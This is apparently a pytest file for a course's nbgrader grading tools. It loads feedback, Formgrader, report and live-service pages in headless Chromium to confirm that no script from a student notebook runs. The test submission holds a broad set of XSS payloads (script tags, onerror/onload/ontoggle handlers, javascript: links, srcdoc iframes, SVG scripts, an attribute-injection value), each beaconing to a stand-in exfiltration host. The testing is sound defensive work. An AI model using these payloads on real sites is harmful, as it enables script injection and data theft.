"""No student script runs in a page someone else opens (issue 36, part A).

A submission carries scripts everywhere a notebook can: its markdown answer (``<script>``, an
``onerror`` image, a ``javascript:`` link, an SVG with ``onload``, an ``srcdoc`` iframe, an
object, a form, a ``<details ontoggle>``, a style and an image that fetch from elsewhere), its
outputs (``text/html`` with a script and ``onload``/``onerror`` handlers, an isolated HTML
output, ``application/javascript``, an SVG with a script, markdown with a handler, an image whose
``width`` carries a handler) and the message of a failing test (raised by the student's code).
It also carries honest content that must survive: maths (markdown and a LaTeX output), a table
(markdown and HTML), a PNG figure (an output and a markdown attachment), highlighted code.

It goes through the scratch course's own pipeline (the course's nbgrader configuration:
``nbgrader generate_assignment``, ``autograde``, ``generate_feedback``), then each page an
instructor (or the student) opens is loaded in headless Chromium:

- the feedback page ``generate_feedback`` wrote;
- the Formgrader's view of the submission, rendered as nbgrader's formgrader renders it (its
  ``HTMLExporter`` built from the configuration ``FormgradeExtension`` loads in the course
  folder), and once more with nbgrader's own ``formgrade`` template;
- the instructor's report (``tools/report/report.py``);
- the live service's pages (``tools/live_grading/app.py``, served by tornado, the hub's login
  replaced by a fixed user): the feedback, the class and the report, and a page that polls.

On each: no payload ran (each one would push its name on ``window.__pwned`` and set the
title; links and buttons are clicked too), nothing was fetched from elsewhere, no content
security violation was even needed for the sanitised pages, and the honest content is there.
"""

from __future__ import annotations

import base64
import io
import os
import re
import threading
from pathlib import Path

import nbformat
import pytest

from tools import env

try:
    from tests import browser_support as bs
except ImportError:  # tests/ on sys.path (pytest's rootdir-less import mode)
    import browser_support as bs

pytestmark = [pytest.mark.browser, pytest.mark.pipeline, pytest.mark.timeout(900)]

A = "scripts"
NB = "answers"
STUDENT = "mallory"
EXFIL = "http://exfil.invalid/"


def ran(tag: str) -> str:
    """JavaScript that records that payload ``tag`` ran (and fetches, and renames the page)."""
    return (f"(window.__pwned=window.__pwned||[]).push('{tag}');document.title='pwned';"
            f"new Image().src='{EXFIL}{tag}'")


def png_bytes() -> bytes:
    from matplotlib.figure import Figure

    fig = Figure(figsize=(2, 1.5), dpi=50)
    fig.add_subplot().plot([0, 1, 2], [0, 1, 4])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    return buf.getvalue()


PNG_B64 = base64.b64encode(png_bytes()).decode()

MARKDOWN_ANSWER = f"""## My answer

The integral is $\\int_0^1 x\\,dx = \\tfrac12$, and $$\\sum_{{k\\ge 0}} 2^{{-k}} = 2;$$ the table says it all:

| n | loss |
|---|------|
| 1 | 0.50 |
| 2 | 0.25 |

![my figure](attachment:fig.png)

<img src=x onerror="{ran('md-onerror')}">
<script>{ran('md-script')}</script>
<a href="javascript:{ran('md-jslink')}">click me</a>
<svg onload="{ran('md-svg')}"><script>{ran('md-svg-script')}</script></svg>
<iframe srcdoc="<script>parent.eval(&quot;{ran('md-iframe')}&quot;)</script>"></iframe>
<object data="data:text/html,<script>{ran('md-object')}</script>"></object>
<form action="javascript:{ran('md-form')}"><button>click me too</button></form>
<details open ontoggle="{ran('md-ontoggle')}"><summary>more</summary>details</details>
<p style="background-image: url({EXFIL}md-style)">styled</p>
<img src="{EXFIL}md-img" alt="tracker">
"""

HTML_TABLE = ("<table><thead><tr><th>epoch</th><th>accuracy</th></tr></thead>"
              "<tbody><tr><td>1</td><td>0.9</td></tr></tbody></table>")
_H = {
    "script": "<script>" + ran("html-script") + "</script><b>bold</b>",
    "handlers": '<img src=x onerror="' + ran("html-onerror") + '"><svg onload="' + ran("html-svg") + '"></svg>',
    "onload": '<body onload="' + ran("html-onload") + '">body</body>',
    "isolated": "<i>isolated</i><script>" + ran("html-isolated") + "</script>",
    "svg": ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="' + ran("svg-onload") + '">'
            "<script>" + ran("svg-script") + '</script><circle cx="10" cy="10" r="8"/></svg>'),
    "js": ran("javascript"),
    "markdown": '<img src=x onerror="' + ran("markdown-output") + '">',
    "width": "10 onerror=(window.__pwned=window.__pwned||[]).push('width')",
    "message": '<img src=x onerror="' + ran("message") + '"><script>' + ran("message-script") + "</script>",
}
CODE_ANSWER = f"""from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
import base64
display(HTML({HTML_TABLE!r}))
display(Image(data=base64.b64decode({PNG_B64!r})))
display(Latex(r"$\\sum_{{k=1}}^n k = \\frac{{n(n+1)}}{{2}}$"))
display(HTML({_H['script']!r}))
display(HTML({_H['handlers']!r}))
display({{"text/html": {_H['onload']!r}}}, raw=True)
display({{"text/html": {_H['isolated']!r}}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
display(SVG({_H['svg']!r}))
display(Javascript({_H['js']!r}))
display(Markdown({_H['markdown']!r}))
display(Image(data=base64.b64decode({PNG_B64!r}), width={_H['width']!r}))

def double(x):
    raise ValueError({_H['message']!r})
"""


def _meta(**kw) -> dict:
    return {"nbgrader": {"schema_version": 3, "task": False, **kw}}


def source_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Scripts\nExplain, then write `double`."),
        nbformat.v4.new_markdown_cell("### BEGIN SOLUTION\nAn answer.\n### END SOLUTION", metadata=_meta(
            grade=True, grade_id="written", locked=False, points=1, solution=True)),
        nbformat.v4.new_code_cell("def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION",
                                  metadata=_meta(grade=False, grade_id="ex_double", locked=False, solution=True)),
        nbformat.v4.new_code_cell("assert double(3) == 6, 'double(3) should be 6'", metadata=_meta(
            grade=True, grade_id="test_double", locked=True, points=1, solution=False)),
    ]
    return nb


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """The scratch course (the course's configuration), with mallory's submission autograded and
    her feedback generated by nbgrader's own commands."""
    from tools.build import pipeline

    root = tmp_path_factory.mktemp("no-script") / "course"
    (root / "source" / A).mkdir(parents=True)
    nbformat.write(source_notebook(), str(root / "source" / A / f"{NB}.ipynb"))
    (root / "nbgrader_config.py").write_text(
        "c = get_config()  # noqa: F821\n"
        f"load_subconfig({str(env.COURSE / 'nbgrader_config.py')!r})  # noqa: F821\n"
        f"c.CourseDirectory.root = {str(root)!r}\n")
    pipeline.nbgrader("generate_assignment", A, "--force", course=root)
    nb = nbformat.read(str(root / "release" / A / f"{NB}.ipynb"), as_version=4)
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "written":
            c.source = MARKDOWN_ANSWER
            c["attachments"] = {"fig.png": {"image/png": PNG_B64}}
        elif gid == "ex_double":
            c.source = CODE_ANSWER
    sub = root / "submitted" / STUDENT / A
    sub.mkdir(parents=True)
    nbformat.write(nb, str(sub / f"{NB}.ipynb"))
    (sub / "timestamp.txt").write_text("2026-11-30 12:00:00.000000 UTC")
    pipeline.nbgrader("autograde", A, "--force", course=root)
    pipeline.nbgrader("generate_feedback", A, "--force", course=root)
    return root


# ------------------------------------------------------------------------------ the browser
WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
    e => window.__violations.push(e.violatedDirective + ' ' + (e.blockedURI || '') + ' ' + (e.sample || '')));
"""


@pytest.fixture(scope="module")
def browser(chromium):
    with bs.chromium_browser() as b:
        yield b


class Visit:
    """A page opened in a fresh context: requests leaving file:, data: and 127.0.0.1 are
    recorded and aborted; dialogs recorded and dismissed."""

    def __init__(self, browser, url: str, wait_math: bool = False, settle_ms: int = 1000):
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.context = browser.new_context(viewport=bs.VIEWPORT)
        self.context.add_init_script(WATCH)

        def route(r):
            u = r.request.url
            self.requests.append(u)
            if u.startswith(("file:", "data:", "blob:", "about:", "http://127.0.0.1")):
                r.continue_()
            else:
                r.abort()

        self.context.route("**/*", route)
        self.page = self.context.new_page()
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.response = self.page.goto(url, wait_until="load", timeout=120_000)
        if wait_math:
            self.page.wait_for_function("() => window.MathJax && window.MathJax.startup", timeout=60_000)
            self.page.evaluate("() => window.MathJax.startup.promise")
        self.page.wait_for_timeout(settle_ms)
        for sel in ("a:text-is('click me')", "button:text-is('click me too')"):
            for el in self.page.locator(sel).all():
                try:
                    el.click(timeout=2000)
                except Exception:  # noqa: BLE001 - not clickable (stripped): nothing to run
                    pass
        self.page.wait_for_timeout(300)

    def problems(self, name: str, allow_violations: bool = False) -> list[str]:
        p = self.page
        out = []
        pwned = p.evaluate("() => window.__pwned || null")
        if pwned:
            out.append(f"{name}: scripts ran: {pwned}")
        if p.title() == "pwned":
            out.append(f"{name}: a script renamed the page")
        fetched = [u for u in self.requests if u.startswith(EXFIL)]
        if fetched:
            out.append(f"{name}: fetched {fetched}")
        if self.dialogs:
            out.append(f"{name}: dialogs {self.dialogs}")
        # (Bootstrap's icon font, which the feedback template's own style sheet names, is not
        # shipped with the page: the CSP refuses to look for it, which is no student's doing.)
        violations = [x for x in p.evaluate("() => window.__violations") if not x.startswith("font-src")]
        if violations and not allow_violations:
            out.append(f"{name}: the sanitiser left something the CSP had to block: {violations}")
        return out

    def close(self) -> None:
        self.context.close()


def honest(page, name: str, math: bool = True, math_selector: str = "mjx-container") -> list[str]:
    """The honest content of the submission is on the page (its formulas: ``math_selector``,
    MathJax's output, or ``math`` for the MathML the feedback page is written with)."""
    out = []
    if math and page.locator(math_selector).count() < 3:
        out.append(f"{name}: fewer than 3 formulas typeset ({page.locator(math_selector).count()})")
    cells = page.locator("td").all_inner_texts()
    if "0.50" not in cells or "0.9" not in cells:
        out.append(f"{name}: a table is missing (cells: {cells[:20]})")
    figures = page.evaluate("""() => [...document.images].filter(i => i.src.startsWith('data:image/png')
                                       && i.complete && i.naturalWidth > 0).length""")
    if figures < 2:
        out.append(f"{name}: {figures} PNG figure(s) shown, not the 2 (an output and an attachment)")
    if page.locator(".highlight span.k, .highlight span.kn").count() == 0:
        out.append(f"{name}: no highlighted code")
    return out


# --------------------------------------------------------------------------------- pages
def test_feedback_page_runs_no_student_script(course, browser):
    page = course / "feedback" / STUDENT / A / f"{NB}.html"
    assert page.exists(), "generate_feedback wrote no page"
    # no MathJax: the maths is MathML written by generate_feedback (tools/site/feedback_page.py)
    v = Visit(browser, page.as_uri(), wait_math=False)
    try:
        problems = v.problems("feedback") + honest(v.page, "feedback", math_selector="math")
        if v.page.evaluate("() => document.scripts.length"):
            problems.append("feedback: the page carries a script")
        if "click me" not in v.page.content():
            problems.append("feedback: the student's link text is gone")
    finally:
        v.close()
    assert not problems, "\n".join(problems)


def formgrader_page(course: Path, template: str | None, monkeypatch) -> str:
    """The Formgrader's view of mallory's notebook, as nbgrader's formgrader renders it: an
    ``HTMLExporter`` built from the configuration ``FormgradeExtension`` loads in the course
    folder (``make formgrader`` starts JupyterLab there); ``template``: another template name
    (nbgrader's own ``formgrade``)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
    from traitlets.config import Config

    monkeypatch.chdir(course)
    fg = FormgradeExtension()
    fg.root_dir = str(course)
    fg.initialize([])
    config = Config(fg.config)
    if template:
        config.HTMLExporter.template_name = template
        config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": A, "notebook_id": NB, "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": STUDENT, "last_name": "", "first_name": "",
                 "notebook_path": f"autograded/{STUDENT}/{A}/{NB}.ipynb",
                 "nbgrader": {"notebook": NB, "score": 0, "max_score": 2, "late_penalty": 0}}
    html, _ = HTMLExporter(config=config).from_filename(
        str(course / "autograded" / STUDENT / A / f"{NB}.ipynb"), resources=resources)
    return html


# As configured (the course's feedback template set on generate_feedback's own exporter class,
# tools.site.feedback_page.FeedbackExporter), the Formgrader renders with nbgrader's formgrade template, exactly as
# when that template is named explicitly (as nbgrader's formgrader extension sets it).
def test_formgrader_view_runs_no_student_script(course, browser, monkeypatch, tmp_path):
    html = formgrader_page(course, None, monkeypatch)
    uuid = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")  # output ids
    assert uuid.sub("", html) == uuid.sub("", formgrader_page(course, "formgrade", monkeypatch)), \
        "the Formgrader's view is not nbgrader's formgrade page (the feedback template reached it?)"
    f = tmp_path / "formgrade.html"
    f.write_text(html)
    # nbgrader's formgrade template loads jQuery, MathJax and its own scripts from the server:
    # offline they are missing (and its inline scripts fail); only the student's matter here.
    v = Visit(browser, f.as_uri(), wait_math=False)
    try:
        problems = v.problems("formgrader", allow_violations=True)
        problems += honest(v.page, "formgrader", math=False)
    finally:
        v.close()
    assert not problems, "\n".join(problems)


def test_report_runs_no_student_script(course, browser, tmp_path):
    from tools.report import report

    out = report.write(report.collect(A, course), tmp_path / "report.html")
    text = out.read_text()
    assert "Content-Security-Policy" in text
    v = Visit(browser, out.as_uri())
    try:
        problems = v.problems("report")
        body = v.page.inner_text("body")
        if "onerror" not in body:  # the student's message is shown, as text
            problems.append("report: the failure message of test_double is not shown as text")
        if v.page.evaluate("() => [...document.images].filter(i => i.naturalWidth > 0).length") < 2:
            problems.append("report: its figures do not show")
    finally:
        v.close()
    assert not problems, "\n".join(problems)


# ------------------------------------------------------------------------- the live service
@pytest.fixture(scope="module")
def live(course, tmp_path_factory):
    """The live service's tornado app on 127.0.0.1 (the hub's OAuth replaced by a fixed
    instructor), with mallory's graded submission (its failure message carries the payload)
    and a waiting one."""
    import asyncio
    import json

    from tornado.httpserver import HTTPServer

    from tools.live_grading import app as live_app
    from tools.live_grading import policy as pol
    from tools.live_grading.queue import Arrival, Queue

    base = tmp_path_factory.mktemp("live")
    state = base / "state"
    (state / "courses").mkdir(parents=True)
    (state / "courses" / A).symlink_to(course)
    queue = Queue(state / "queue.sqlite")
    nb = nbformat.read(str(course / "autograded" / STUDENT / A / f"{NB}.ipynb"), as_version=4)
    message = next(o["evalue"] for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_double"
                   for o in c.outputs if o.get("output_type") == "error")
    assert "onerror" in message
    queue.add([Arrival(STUDENT, A, "2026-11-30 12:00:00 UTC", 1.0, "in1"),
               Arrival("eve", A, "2026-11-30 12:05:00 UTC", 2.0, "in2")], limit=lambda a: None)
    (row, *_) = queue.claim(1)
    result = {"score": 0.0, "max_score": 2.0, "errors": [message], "cells": [
        {"notebook": NB, "grade_id": "test_double", "kind": "test", "max_points": 1.0, "points": 0.0,
         "passed": False, "failed_part": "visible", "message": message, "has_hidden": False},
        {"notebook": NB, "grade_id": "written", "kind": "written", "max_points": 1.0}]}
    assert queue.finish(row.id, json.loads(json.dumps(result)))
    os.environ.setdefault("JUPYTERHUB_API_TOKEN", "test-token")
    os.environ.setdefault("JUPYTERHUB_CLIENT_ID", "service-grading")
    os.environ.setdefault("JUPYTERHUB_API_URL", "http://127.0.0.1:9/hub/api")
    service = live_app.Service(queue, pol.Policy.load(None), course, state, {"prof"})
    users = {"prof": {"name": "prof", "groups": []}, "eve": {"name": "eve", "groups": []}}
    who = {"user": "prof"}
    original = live_app.Base.get_current_user
    live_app.Base.get_current_user = lambda self: users[who["user"]]
    loop = asyncio.new_event_loop()
    started = threading.Event()
    holder = {}

    def serve():
        asyncio.set_event_loop(loop)
        server = HTTPServer(live_app.make_app(service, "/services/grading/"))
        server.listen(0, "127.0.0.1")
        holder["port"] = next(iter(server._sockets.values())).getsockname()[1]
        holder["server"] = server
        started.set()
        loop.run_forever()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    assert started.wait(30)
    try:
        yield {"url": f"http://127.0.0.1:{holder['port']}/services/grading/", "row": row.id, "who": who}
    finally:
        loop.call_soon_threadsafe(holder["server"].stop)
        loop.call_soon_threadsafe(loop.stop)
        t.join(10)
        live_app.Base.get_current_user = original


def test_live_pages_run_no_student_script_and_send_a_csp(live, browser):
    problems = []
    for name, path in (("feedback", f"submissions/{live['row']}"), ("class", "class"), ("report", f"report/{A}")):
        v = Visit(browser, live["url"] + path)
        try:
            csp = (v.response.headers or {}).get("content-security-policy", "")
            if v.response.status != 200:
                problems.append(f"live {name}: HTTP {v.response.status}")
            if "default-src 'none'" not in csp or "script-src" not in csp or "unsafe-inline" in csp.split(
                    "script-src")[1].split(";")[0]:
                problems.append(f"live {name}: no strict Content-Security-Policy header: {csp!r}")
            problems += v.problems(f"live {name}")
            if name == "feedback" and "onerror" not in v.page.inner_text("body"):
                problems.append("live feedback: the failure message is not shown as text")
            if name == "report" and v.page.evaluate(
                    "() => [...document.images].filter(i => i.naturalWidth > 0).length") < 2:
                problems.append("live report: its figures do not show")
            if name != "report" and v.page.evaluate(
                    "() => getComputedStyle(document.querySelector('th')).backgroundColor") != "rgb(240, 240, 240)":
                problems.append(f"live {name}: the page's own style sheet did not apply")
        finally:
            v.close()
    assert not problems, "\n".join(problems)


def test_live_page_still_polls_under_its_csp(live, browser):
    """eve's submission waits: her page's own script (allowed by hash) asks the API."""
    live["who"]["user"] = "eve"
    try:
        v = Visit(browser, live["url"], settle_ms=6500)
        try:
            polled = [u for u in v.requests if u.endswith("/api/submissions")]
            problems = v.problems("live waiting page")
            if not polled:
                problems.append("live waiting page: its script did not poll the API (blocked by its own CSP?)")
        finally:
            v.close()
    finally:
        live["who"]["user"] = "prof"
    assert not problems, "\n".join(problems)
